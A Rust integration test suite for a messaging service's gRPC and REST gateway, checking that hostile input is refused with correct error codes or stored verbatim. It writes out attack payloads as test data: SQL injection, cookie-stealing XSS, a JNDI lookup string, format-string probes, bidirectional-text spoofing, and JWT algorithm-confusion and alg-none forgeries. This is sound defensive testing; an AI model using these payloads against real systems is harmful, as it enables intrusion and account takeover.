//! Hostile input against the running servers, gRPC and REST: what `auth`, `input` and
//! `isolation` do not cover already. Each refusal has the right code and names its
//! field, nothing is stored, nothing leaks; what is accepted comes back byte for byte.

use std::collections::HashMap;

use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD};

use commpro_messaging_api::v1 as pb;
use jsonwebtoken::{Algorithm, EncodingKey, Header, encode, get_current_timestamp};
use serde_json::{Value, json};
use tokio::net::TcpListener;
use tonic::Code;

use crate::{backend_tests, gateway::gateway_on, helpers::*};

const OWN: &str = "+15005550006";
const BOB: &str = "+14155550100";
const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/fixtures");

/// Text that must be stored and shown exactly as sent.
const PRECIOUS: &[&str] = &[
    "'; DROP TABLE messages; --",
    "Robert'); DELETE FROM contacts WHERE ('1'='1",
    "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "%s%n%x {{7*7}} ${jndi:ldap://example.invalid/a} \\\\x00",
    "\u{202E}gpj.exe \u{202D}left\u{202C} \u{200F}rtl\u{200E}",
    "emoji 👍🏽 ZWJ 👨‍👩‍👧 combining e\u{301} CJK 漢字",
];

fn sms(to: &str, body: &str) -> pb::SendSmsRequest {
    pb::SendSmsRequest {
        from: OWN.into(),
        to: to.into(),
        body: body.into(),
        idempotency_key: String::new(),
        send_at: None,
    }
}

backend_tests! {
    async fn hostile_numbers_and_bodies_over_grpc(backend: Backend) {
        let server = TestServer::start(&backend).await;
        server.assign(OWN, "alice").await;
        let mut alice = server.user("alice").await;
        for to in ["+1", "+123456789012345678", "0033123456789", "+33abc456789", "alice", "+", "+1\u{202E}4155550100", "+14155550100\0"] {
            let err = alice.send_req(sms(to, "hi")).await.unwrap_err();
            assert_eq!(err.code(), Code::InvalidArgument, "{to:?}: {}", err.message());
            assert!(err.message().starts_with("to:"), "{to:?}: {}", err.message());
        }
        let err = alice.send_req(sms(BOB, &"é".repeat(1601))).await.unwrap_err();
        assert!(err.message().starts_with("body:") && err.message().contains("1601"), "{}", err.message());
        assert!(alice.list(100, "").await.unwrap().conversations.is_empty(), "nothing stored");

        // Accepted text is stored and returned byte for byte.
        let mut sent = Vec::new();
        for body in PRECIOUS {
            sent.push(alice.send_req(sms(BOB, body)).await.unwrap().id);
        }
        let contact = alice.list(10, "").await.unwrap().conversations[0].contact_id.clone();
        let page = alice.get(&contact, 50, "").await.unwrap();
        for (id, body) in sent.iter().zip(PRECIOUS) {
            let m = page.messages.iter().find(|m| &m.id == id).unwrap();
            assert_eq!(m.body.as_bytes(), body.as_bytes());
        }
        server.stop().await;
    }

    async fn page_tokens_from_elsewhere(backend: Backend) {
        let server = TestServer::start(&backend).await;
        server.assign(OWN, "alice").await;
        server.assign("+15005550007", "bob").await;
        for i in 0..3 {
            server.inbound(&format!("SM{i:032}"), &format!("+1415555020{i}"), OWN, "to alice").await;
            server.inbound(&format!("SM{:032}", i + 10), &format!("+1415555030{i}"), "+15005550007", "to bob").await;
        }
        let mut alice = server.user("alice").await;
        let mut bob = server.user("bob").await;
        let bobs = bob.list(1, "").await.unwrap();
        assert!(!bobs.next_page_token.is_empty());
        let alice_conversations = alice.list(100, "").await.unwrap().conversations;
        let alice_contacts: Vec<String> = alice_conversations.iter().map(|c| c.contact_id.clone()).collect();

        // The first page works; alice's own next-page token is accepted.
        let first = alice.list(1, "").await.unwrap();
        let rest = alice.list(100, &first.next_page_token).await.unwrap();
        assert!(rest.conversations.iter().all(|c| alice_contacts.contains(&c.contact_id)));
        assert_eq!(rest.conversations.len(), alice_contacts.len() - 1);

        // A messages token on the conversation list, another conversation's messages
        // token, another user's token, the inbox's token on the archive, and tampered
        // tokens: each refused with page_token named, nothing of bob's returned.
        let contact = &alice_contacts[0];
        server.inbound(&format!("SM{:032}", 99), &alice_conversations[0].contact_number, OWN, "again").await;
        let messages_token = alice.get(contact, 1, "").await.unwrap().next_page_token;
        assert!(!messages_token.is_empty());
        let err = alice.get(&alice_contacts[1], 10, &messages_token).await.unwrap_err();
        assert_eq!(err.code(), Code::InvalidArgument);
        assert!(err.message().starts_with("page_token:"), "{}", err.message());
        let err = alice.list_archived(10, &first.next_page_token).await.unwrap_err();
        assert_eq!(err.code(), Code::InvalidArgument);
        assert!(err.message().starts_with("page_token:"), "{}", err.message());
        let t = &bobs.next_page_token;
        let mut flipped = URL_SAFE_NO_PAD.decode(t).unwrap();
        *flipped.last_mut().unwrap() ^= 1;
        let tampered = [
            bobs.next_page_token.clone(),
            URL_SAFE_NO_PAD.encode(&flipped),
            messages_token.clone(),
            format!("{}*", &t[..t.len() - 1]),
            t[..6].to_owned(),
            format!("A{t}"),
            "x".repeat(4000),
        ];
        for token in tampered {
            let err = alice.list(10, &token).await.unwrap_err();
            assert_eq!(err.code(), Code::InvalidArgument, "{token}");
            assert!(err.message().starts_with("page_token:"), "{}", err.message());
        }
        server.stop().await;
    }
}

/// Oversized gRPC messages and tokens are refused, and the server goes on serving.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_grpc_messages_and_tokens() {
    let server = TestServer::start(&Backend::Sqlite).await;
    server.assign(OWN, "alice").await;
    let mut alice = server.user("alice").await;
    let err = alice
        .send_req(sms(BOB, &"x".repeat(5 * 1024 * 1024)))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::OutOfRange, "{}", err.message());

    let now = get_current_timestamp();
    let padded = encode(
        &Header::new(Algorithm::HS256),
        &json!({"sub": "alice", "iss": ISSUER, "aud": AUDIENCE, "exp": now + 600, "pad": "p".repeat(16 * 1024)}),
        &EncodingKey::from_secret(SECRET.as_bytes()),
    )
    .unwrap();
    let mut client =
        pb::messaging_service_client::MessagingServiceClient::new(server.channel().await);
    let err = client
        .list_conversations(authed(pb::ListConversationsRequest::default(), &padded))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    assert!(err.message().contains("too large"), "{}", err.message());

    alice.send(OWN, BOB, "still serving").await.unwrap();
    assert_eq!(alice.list(10, "").await.unwrap().conversations.len(), 1);
    server.stop().await;
}

/// Algorithm confusion against an RS256 deployment: HS256 "signed" with the public key.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hs256_signed_with_the_rs256_public_key_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}?mode=rwc", dir.path().join("m.db").display());
    let vars: HashMap<String, String> = HashMap::from([
        (
            "MESSAGING_DATA_DIR".into(),
            dir.path().display().to_string(),
        ),
        ("MESSAGING_MASTER_KEYS".into(), master_keys_spec()),
        (
            "JWT_PUBLIC_KEY_FILE".into(),
            format!("{FIXTURES}/rsa-test-public.pem"),
        ),
    ]);
    let server =
        TestServer::start_from_vars(vars, db, dir, None, messaging_grpc::Mode::Serve).await;
    let public = std::fs::read(format!("{FIXTURES}/rsa-test-public.pem")).unwrap();
    let now = get_current_timestamp();
    let confused = encode(
        &Header::new(Algorithm::HS256),
        &json!({"sub": "alice", "iss": ISSUER, "aud": AUDIENCE, "exp": now + 600, "roles": ["admin"]}),
        &EncodingKey::from_secret(&public),
    )
    .unwrap();
    let mut admin = pb::messaging_admin_client::MessagingAdminClient::new(server.channel().await);
    let err = admin
        .list_numbers(authed(pb::ListNumbersRequest::default(), &confused))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    assert!(err.message().contains("algorithm"), "{}", err.message());
    server.stop().await;
}

/// The REST side: hostile JSON text and tokens through the gateway.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_json_and_tokens_over_rest() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let server = TestServer::start(&Backend::Sqlite).await;
    let gw = gateway_on(listener, &format!("http://{}", server.addr), &[]).await;
    server.assign(OWN, "alice").await;
    let alice = server.token("alice");
    let send = |raw: String, token: String| {
        let http = gw.http.clone();
        let url = format!("http://{}/api/messages/send", gw.addr);
        async move {
            let resp = http
                .post(url)
                .bearer_auth(token)
                .header("content-type", "application/json")
                .body(raw)
                .send()
                .await
                .unwrap();
            let status = resp.status().as_u16();
            (status, resp.json::<Value>().await.unwrap())
        }
    };
    let body_of = |text: &str| format!(r#"{{"from":"{OWN}","to":"{BOB}","body":{text}}}"#);
    for (text, field) in [
        (r#""lone \ud800 surrogate""#.to_owned(), "body"),
        (r#""nul \u0000 byte""#.to_owned(), "body"),
        (format!("\"{}\"", "x".repeat(1601)), "body"),
    ] {
        let (status, answer) = send(body_of(&text), alice.clone()).await;
        assert_eq!(
            (status, answer["field"].as_str()),
            (400, Some(field)),
            "{text:.40}: {answer}"
        );
    }
    let (status, answer) = send(
        format!(r#"{{"from":"{OWN}","to":"0033123456789","body":"hi"}}"#),
        alice.clone(),
    )
    .await;
    assert_eq!(
        (status, answer["field"].as_str()),
        (400, Some("to")),
        "{answer}"
    );

    // Tokens: 16 KB, alg none, expired: 401 whatever the body.
    let huge = "a".repeat(16 * 1024);
    let none = format!(
        "eyJhbGciOiJub25lIn0.{}.",
        base64_url(&json!({"sub": "alice", "exp": get_current_timestamp() + 600}))
    );
    for token in [huge, none] {
        let (status, answer) = send(body_of("\"hi\""), token).await;
        assert_eq!(
            (status, answer["code"].as_str()),
            (401, Some("unauthenticated")),
            "{answer}"
        );
    }
    let listed: Value = gw
        .http
        .get(format!("http://{}/api/messages/conversations", gw.addr))
        .bearer_auth(&alice)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(
        listed["conversations"],
        json!([]),
        "nothing stored by the refusals"
    );

    // Accepted text comes back byte for byte through JSON.
    for body in PRECIOUS {
        let (status, answer) = send(
            json!({"from": OWN, "to": BOB, "body": body}).to_string(),
            alice.clone(),
        )
        .await;
        assert_eq!(status, 200, "{answer}");
        assert_eq!(answer["message"]["body"].as_str(), Some(*body));
    }
    server.stop().await;
}

fn base64_url(v: &Value) -> String {
    URL_SAFE_NO_PAD.encode(v.to_string())
}

/// Over the rate limit, a request whose credentials cannot be good is told so (401),
/// not to retry later (429); a good token over the limit gets the 429.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn over_the_rate_limit_bad_credentials_still_get_401() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let server = TestServer::start(&Backend::Sqlite).await;
    let gw = gateway_on(
        listener,
        &format!("http://{}", server.addr),
        &[("GATEWAY_RATE_LIMIT_PER_SEC", "1")],
    )
    .await;
    let url = format!("http://{}/api/messages/conversations", gw.addr);
    let alice = server.token("alice");
    let mut statuses = Vec::new();
    for _ in 0..4 {
        statuses.push(
            gw.http
                .get(&url)
                .bearer_auth(&alice)
                .send()
                .await
                .unwrap()
                .status()
                .as_u16(),
        );
    }
    assert!(statuses.contains(&429), "{statuses:?}");
    for auth in [None, Some("Bearer not-a-jwt"), Some("Basic YTpi")] {
        let mut req = gw.http.get(&url);
        if let Some(auth) = auth {
            req = req.header("authorization", auth);
        }
        assert_eq!(req.send().await.unwrap().status().as_u16(), 401, "{auth:?}");
    }
    server.stop().await;
}
